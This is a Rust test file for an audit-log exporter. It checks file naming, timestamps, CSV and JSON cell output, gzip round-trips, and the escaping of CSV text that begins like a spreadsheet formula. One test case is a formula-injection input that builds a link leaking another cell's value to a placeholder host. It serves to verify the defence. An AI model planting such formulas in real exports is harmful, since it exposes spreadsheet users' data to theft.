use super::cells::Cell;
use super::*;

#[test]
fn formats_round_trip_their_names() {
    for format in [Format::Csv, Format::Json, Format::Ndjson] {
        assert_eq!(Format::parse(format.as_str()), Some(format));
    }
    assert_eq!(Format::parse("xml"), None);
    assert_eq!(Format::Csv.content_type(), "text/csv; charset=utf-8");
}

#[test]
fn file_names_are_utc_and_mark_gzip() {
    let at = time::macros::datetime!(2026-03-04 05:06:07 +02:00);
    assert_eq!(
        file_name(at, Format::Csv, false),
        "audit_logs_20260304_030607.csv"
    );
    assert_eq!(
        file_name(at, Format::Ndjson, true),
        "audit_logs_20260304_030607.ndjson.gz"
    );
}

#[test]
fn timestamps_are_rfc3339_utc() {
    let at = time::macros::datetime!(2026-03-04 05:06:07.123456 +02:00);
    assert_eq!(rfc3339(at), "2026-03-04T03:06:07.123456Z");
}

#[test]
fn csv_cells_follow_the_documented_text() {
    let mut out = Vec::new();
    let cases: Vec<(Cell, &str)> = vec![
        (Cell::Null, ""),
        (Cell::Bool(true), "true"),
        (Cell::Bool(false), "false"),
        (Cell::Int(-42), "-42"),
        (Cell::Float(1.5), "1.5"),
        (
            Cell::Json(serde_json::json!({"a": [1, 2]})),
            r#"{"a":[1,2]}"#,
        ),
        (Cell::Inet("10.0.0.1".parse().unwrap()), "10.0.0.1"),
        (Cell::Bytes(&[0, 171, 255]), "00abff"),
    ];
    for (value, text) in cases {
        value.write_csv(&mut out).unwrap();
        assert_eq!(String::from_utf8_lossy(&out), text, "{value:?}");
    }
}

#[test]
fn csv_text_that_begins_like_a_formula_is_neutralised() {
    let mut out = Vec::new();
    let cases: Vec<(Cell, &str)> = vec![
        (
            Cell::Text("=HYPERLINK(\"http://x\"&A2)"),
            "'=HYPERLINK(\"http://x\"&A2)",
        ),
        (Cell::Text("+1"), "'+1"),
        (Cell::Text("-1"), "'-1"),
        (Cell::Text("@SUM(A1)"), "'@SUM(A1)"),
        (Cell::Text("\t=1+1"), "'\t=1+1"),
        (Cell::Text("\r=1+1"), "'\r=1+1"),
        // Not at the start, or not one of the six: untouched.
        (Cell::Text("curl/8.0 =1"), "curl/8.0 =1"),
        (Cell::Text(" =1"), " =1"),
        (Cell::Text("'=1"), "'=1"),
        (Cell::Text(""), ""),
        (Cell::Text("/files"), "/files"),
        // Numbers keep their sign; JSON stays JSON.
        (Cell::Int(-1), "-1"),
        (Cell::Float(-0.5), "-0.5"),
        (Cell::Json(serde_json::json!(-3)), "-3"),
        (Cell::Json(serde_json::json!("=1+1")), "\"=1+1\""),
        (Cell::Json(serde_json::json!({"a": "=1"})), r#"{"a":"=1"}"#),
    ];
    for (value, text) in cases {
        value.write_csv(&mut out).unwrap();
        assert_eq!(String::from_utf8_lossy(&out), text, "{value:?}");
    }
}

#[test]
fn json_cells_are_never_prefixed() {
    for text in ["=1", "+1", "-1", "@a", "\t1", "\r1"] {
        let json = serde_json::to_string(&Cell::Text(text)).unwrap();
        assert_eq!(serde_json::from_str::<String>(&json).unwrap(), text);
    }
}

#[tokio::test]
async fn gzip_output_decompresses_to_the_input() {
    let chunks: Vec<io::Result<Bytes>> = (0..50)
        .map(|i| Ok(Bytes::from(format!("line {i}\n").repeat(1000))))
        .collect();
    let expected: Vec<u8> = chunks
        .iter()
        .flat_map(|c| c.as_ref().unwrap().to_vec())
        .collect();
    let compressed: Vec<Bytes> =
        futures_util::TryStreamExt::try_collect(gzip(futures_util::stream::iter(chunks)))
            .await
            .unwrap();
    let compressed: Vec<u8> = compressed.concat();
    assert_eq!(&compressed[..2], &[0x1f, 0x8b], "gzip magic");
    let mut decoder = async_compression::tokio::bufread::GzipDecoder::new(&compressed[..]);
    let mut plain = Vec::new();
    tokio::io::AsyncReadExt::read_to_end(&mut decoder, &mut plain)
        .await
        .unwrap();
    assert_eq!(plain, expected);
}
